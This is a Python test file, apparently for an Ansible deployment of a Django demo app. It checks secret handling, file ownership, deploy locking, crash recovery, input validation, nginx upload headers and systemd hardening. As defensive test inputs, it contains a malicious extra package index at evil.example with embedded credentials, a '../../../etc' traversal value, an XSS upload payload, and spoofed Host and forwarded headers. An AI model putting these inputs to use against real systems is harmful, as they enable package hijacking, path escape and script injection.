"""Security and faults (issue 10), on the deployed hosts: no secret in any output or readable file,
no package code as root, secrets the app cannot change, one deploy at a time, recovery from an
interrupted deploy, refused inputs, nginx's headers for uploads, the units' exposure.

Runs after test_releases.py (file order): the hosts serve a release of the demo."""

import json
import os
import re
import signal
import subprocess
import time

import pytest

from conftest import (
    APP,
    app_copy,
    assert_no_secret_anywhere,
    current_release,
    healthz,
    http,
    measure,
    PROJECT,
    ROOT,
    run_site,
    vault,
    via_nginx,
)

ENVIRONMENTS = {"web-prod-bookworm": "prod", "web-staging-trixie": "staging"}
FAST_HEALTH = {"django_app_healthcheck_retries": 3, "django_app_healthcheck_delay": 1}
BUILDER = f"{APP}-build"


def name_of(host):
    return host.backend.get_hostname()


def all_vault_values():
    values = {}
    for env in ("prod", "staging"):
        for key, value in vault(env).items():
            values[f"{env}/{key}"] = value
    return values


def deploy(*args, **values):
    return run_site("-e", json.dumps({**FAST_HEALTH, **values}), *args, playbook="playbooks/deploy.yml")


# --- 1. No secret in any output, nor in files others (or the app) may read ------------------------

def test_no_secret_in_verbose_converge_and_failing_deploy_output_or_readable_files(hosts, tmp_path):
    assert_no_secret_anywhere(hosts, all_vault_values(), tmp_path, "web", APP)


# --- 2. No package code as root ---------------------------------------------------------------

def test_the_venv_is_the_builders_and_the_app_cannot_change_it(hosts):
    for h in hosts:
        venv = h.check_output(f"readlink -f {ROOT}/current/.venv")
        # (bin/python is a link to the system's interpreter: File.user follows it.)
        for path in (venv, f"{venv}/bin", f"{venv}/bin/pip", f"{venv}/pyvenv.cfg"):
            assert h.file(path).user == BUILDER, path
        assert h.check_output(f"stat -c %U {venv}/bin/python") == BUILDER
        assert h.user(BUILDER).shell == "/usr/sbin/nologin" and BUILDER != APP
        assert h.run(f"runuser -u {APP} -- touch {venv}/bin/planted").rc != 0
        assert h.run(f"runuser -u {APP} -- test -w {venv}/lib").rc != 0
        # pip.conf may hold index credentials: the builder's only.
        conf = h.file(f"{venv}/pip.conf")
        assert (conf.user, conf.mode) == (BUILDER, 0o600)
        assert h.run(f"runuser -u {APP} -- cat {venv}/pip.conf").rc != 0


def test_a_lock_that_picks_its_own_index_is_refused(hosts, tmp_path):
    copy = app_copy(tmp_path, "1.0.1")
    lock = copy / "requirements.txt"
    lock.write_text("--extra-index-url https://user:hunter2@evil.example/simple\n" + lock.read_text())
    before = {h: current_release(h) for h in hosts}
    result = deploy(django_app_src=str(copy))
    out = result.stdout + result.stderr
    assert result.returncode != 0
    assert "says where packages come from" in out and "https://***@evil.example/simple" in out, out[-3000:]
    assert "hunter2" not in out
    assert {h: current_release(h) for h in hosts} == before


# --- 3. Secrets the app cannot change --------------------------------------------------------------

def test_dotenv_is_roots_and_the_app_writes_only_its_data_directories(hosts):
    for h in hosts:
        dotenv = h.file(f"{ROOT}/shared/.env")
        assert (dotenv.user, dotenv.group, dotenv.mode) == ("root", APP, 0o640)
        shared = h.file(f"{ROOT}/shared")
        assert (shared.user, shared.group, shared.mode) == ("root", APP, 0o750)
        assert h.run(f"runuser -u {APP} -- sh -c 'echo DEBUG=on >> {ROOT}/shared/.env'").rc != 0
        assert h.run(f"runuser -u {APP} -- touch {ROOT}/shared/.env.new").rc != 0
        writable = h.check_output(f"systemctl show -p ReadWritePaths --value {APP}.service").split()
        assert sorted(writable) == sorted([f"{ROOT}/shared/media", f"{ROOT}/shared/sqlite"]), writable


# --- 5. One deploy at a time; an interrupted deploy is recovered ------------------------------------

def _start_deploy(extra):
    cmd = ["ansible-playbook", "-i", os.environ["MOLECULE_INVENTORY_FILE"], str(PROJECT / "playbooks" / "deploy.yml"),
           "-e", json.dumps(extra)]
    env = dict(os.environ, ANSIBLE_NOCOLOR="1", ANSIBLE_FORCE_COLOR="0")
    return subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env,
                            start_new_session=True)


def _wait_for(host, path, timeout=300):
    for _ in range(timeout * 2):
        if host.file(path).exists:
            return
        time.sleep(0.5)
    raise AssertionError(f"{path} never appeared")


# A deploy that stays in its health check for a while: it asks for a body the app never sends,
# 30 s going forward and 30 s going back (a second deploy is refused ~15 s after it starts).
SLOW_CHECK = {"django_app_healthcheck_expect": "never-in-the-body", "django_app_healthcheck_retries": 15,
              "django_app_healthcheck_delay": 2}


def test_a_second_deploy_is_refused_at_once_naming_the_first(hosts):
    prod = [h for h in hosts if name_of(h) == "web-prod-bookworm"][0]
    first = _start_deploy({**SLOW_CHECK, "django_app_dotenv": {"SELF_URL": "http://127.0.0.1:8000", "RUN": "first"}})
    try:
        _wait_for(prod, f"{ROOT}/.deploy.lock")
        started = time.monotonic()
        second = run_site("-e", json.dumps(FAST_HEALTH), "--limit", "web-prod-bookworm", playbook="playbooks/deploy.yml")
        took = time.monotonic() - started
        out = " ".join((second.stdout + second.stderr).split())
        assert second.returncode != 0
        assert "another deploy or rollback of initech-demo is running here" in out, out[-3000:]
        assert f"ansible-playbook pid {first.pid}" in out, out[-3000:]
        measure("second deploy refused while one runs", seconds=round(took, 1))
    finally:
        first.communicate(timeout=900)
    for h in hosts:  # the first (failed, gone back) released its lock in every path
        assert not h.file(f"{ROOT}/.deploy.lock").exists
        assert healthz(h)["status"] == "ok"
    # Its way back was checked with the same never-met expectation, so the release it returned to
    # is not marked as passing: the next deploy, with a check the app passes, checks it first and
    # carries on from there.
    after = deploy()
    assert after.returncode == 0, after.stdout[-3000:]
    for h in hosts:
        assert not h.file(f"{ROOT}/.deploy.in-progress").exists


def test_an_interrupted_deploy_is_recovered_by_the_next_run(hosts, tmp_path):
    copy = app_copy(tmp_path, "9.9.9")
    verified = {name_of(h): current_release(h) for h in hosts}
    run = _start_deploy({**SLOW_CHECK, "django_app_src": str(copy)})
    try:
        for h in hosts:
            _wait_for(h, f"{ROOT}/.deploy.in-progress")
        for _ in range(600):  # until current moved to the unproven release (staging it takes a while on a busy machine)
            if all(current_release(h) != verified[name_of(h)] for h in hosts):
                break
            time.sleep(0.5)
    finally:
        os.killpg(run.pid, signal.SIGKILL)  # as a lost connection or a reboot: no `always`, no way back
        killed_output = run.communicate(timeout=60)[0]
    assert all(current_release(h) != verified[name_of(h)] for h in hosts), (
        "the switch did not happen before the kill: " + killed_output[-5000:])

    unproven = {name_of(h): current_release(h).rsplit("/", 1)[1] for h in hosts}

    # The killed run still holds the lock: the next one says whose it is, and goes no further.
    # (That the message names the exact ansible-playbook pid is test_a_second_deploy's check; here
    # the holder of the lock left behind is named, whoever it is.)
    stuck = run_site("-e", json.dumps(FAST_HEALTH), playbook="playbooks/deploy.yml")
    said = " ".join((stuck.stdout + stuck.stderr).split())
    assert stuck.returncode != 0 and "another deploy or rollback of initech-demo is running here" in said, said[-3000:]
    assert re.search(r"\(ansible-playbook pid \d+\)", said), said[-3000:]
    print(f"killed run: pid {run.pid}; lock holders named:", sorted(set(re.findall(r"ansible-playbook pid (\d+)", said))))
    # Told that the holder is gone, the next deploy first returns to the release that last passed
    # its check (files, current, gunicorn, its health), then ships its own (the demo, 1.0.0).
    result = run_site("-e", json.dumps({**FAST_HEALTH, "django_app_deploy_lock_break": True}),
                      playbook="playbooks/deploy.yml")
    out = " ".join(result.stdout.split())
    assert result.returncode == 0, result.stdout[-4000:]
    assert "took over the deploy lock" in out and "ended before its check" in out, out[-3000:]
    for h in hosts:
        back_to = verified[name_of(h)].rsplit("/", 1)[1]
        assert f"Returning to release {back_to}, the newest that passed its check" in out
        assert healthz(h)["version"] == "1.0.0"
        assert not h.file(f"{ROOT}/.deploy.in-progress").exists and not h.file(f"{ROOT}/.deploy.lock").exists
        history = h.file(f"{ROOT}/releases.history").content_string.split()
        assert unproven[name_of(h)] not in history, "the release that never passed its check is not in the history"
        # The release gone back to, then the one this run shipped (the same when the demo was live).
        assert history[-1] == current_release(h).rsplit("/", 1)[1] and back_to in history[-2:], history


# --- 6. Inputs that would damage a host are refused before anything changes ---------------------------

@pytest.mark.parametrize(
    ("values", "message"),
    [
        ({"django_app_name": "www-data", "django_app_allowed_hosts": ["localhost"]}, "user www-data exists"),
        ({"django_app_root": "/etc/initech-demo"}, "django_app_root must be a directory below one of"),
        ({"django_app_shared_dirs": ["../../../etc"]}, "django_app_static_dir and django_app_shared_dirs"),
        ({"gunicorn_bind_tcp": ["0.0.0.0:8000"]}, "gunicorn_bind_tcp 0.0.0.0:8000 listens beyond this host"),
        ({"django_app_allow_test_secrets": False}, "django_app_secret_key holds a value marked test-only"),
    ],
    ids=["system-account", "root-outside-prefix", "shared-dir-escape", "public-bind", "test-only-secrets"],
)
def test_inputs_that_would_damage_a_host_are_refused(hosts, values, message):
    before = {h: (current_release(h), h.check_output("getent passwd www-data"), h.check_output("ls -la /etc | md5sum"))
              for h in hosts}
    result = run_site("-e", json.dumps(values), "--limit", "web-prod-bookworm")
    out = " ".join((result.stdout + result.stderr).split())
    assert result.returncode != 0 and message in out, out[-3000:]
    for h in hosts:
        assert (current_release(h), h.check_output("getent passwd www-data"), h.check_output("ls -la /etc | md5sum")) == before[h]


# --- 7. nginx: uploads cannot run as the site; unknown hosts get nothing ---------------------------------

_UPLOAD = r"""
import http.client, json, socket, sys
class Unix(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect(sys.argv[1])
conn = Unix("localhost")
conn.request("POST", "/upload/?name=" + sys.argv[2], body=sys.argv[3].encode(), headers={"Host": "localhost"})
print(conn.getresponse().read().decode())
"""


def test_uploads_in_subdirectories_are_served_safely(hosts):
    for h in hosts:
        page = json.loads(h.check_output("python3 -c %s %s %s %s", _UPLOAD, f"/run/gunicorn/{APP}.sock", "note.html",
                                         "<script>alert(1)</script>"))
        assert page["url"].startswith("/media/x/y/note")
        served = via_nginx(h, page["url"], headers=True)
        assert served["status"] == 200, served  # a directory the app made (umask 0027) is readable by nginx
        assert served["headers"]["x-content-type-options"] == "nosniff"
        assert "sandbox" in served["headers"]["content-security-policy"]
        assert served["headers"]["content-disposition"] == "attachment"
        text = json.loads(h.check_output("python3 -c %s %s %s %s", _UPLOAD, f"/run/gunicorn/{APP}.sock", "note.txt", "hi"))
        plain = via_nginx(h, text["url"], headers=True)
        assert plain["status"] == 200 and "content-disposition" not in plain["headers"]
        assert via_nginx(h, "/healthz", headers=True)["headers"]["x-content-type-options"].startswith("nosniff")


def test_a_host_name_no_site_claims_gets_no_answer(hosts):
    for h in hosts:
        result = h.run("python3 -c %s", "import http.client as c; k = c.HTTPConnection('127.0.0.1', 80, timeout=10); "
                       "k.request('GET', '/healthz', headers={'Host': 'evil.example.test'}); print(k.getresponse().status)")
        assert result.rc != 0 and "RemoteDisconnected" in result.stderr, (result.stdout, result.stderr)


def test_forwarded_headers_are_trusted_from_nginx_only(hosts):
    for h in hosts:
        # Through the loopback TCP bind a local process cannot pose as the proxy.
        result = h.check_output("python3 -c %s", "import http.client as c, json; k = c.HTTPConnection('127.0.0.1', 8000); "
                                "k.request('GET', '/healthz', headers={'Host': 'localhost', 'X-Forwarded-Proto': 'https'}); "
                                "print(json.loads(k.getresponse().read())['secure'])")
        assert result == "False"
        status, body = http(h, "/healthz")
        assert status == 200


# --- 8. The units' exposure, file limits, ordering ---------------------------------------------------

def exposure(host, unit):
    out = host.check_output("systemd-analyze security %s 2>&1 | tail -1", unit)
    return float(re.search(r"Overall exposure level for \S+: ([0-9.]+)", out).group(1))


def test_the_gunicorn_unit_is_hardened_and_sized(hosts):
    for h in hosts:
        score = exposure(h, f"{APP}.service")
        measure("systemd-analyze security", host=name_of(h), unit=f"{APP}.service", exposure=score)
        assert score <= 2.0, score
        workers = int(re.search(r"--workers (\d+)", h.check_output(f"systemctl show -p ExecStart --value {APP}.service")).group(1))
        limit = int(h.check_output(f"systemctl show -p LimitNOFILE --value {APP}.service"))
        assert limit == workers * 1000 * 2 + 1024
        assert int(h.check_output(f"cat /proc/{healthz(h)['pid']}/limits | awk '/open files/ {{print $4}}'")) == limit
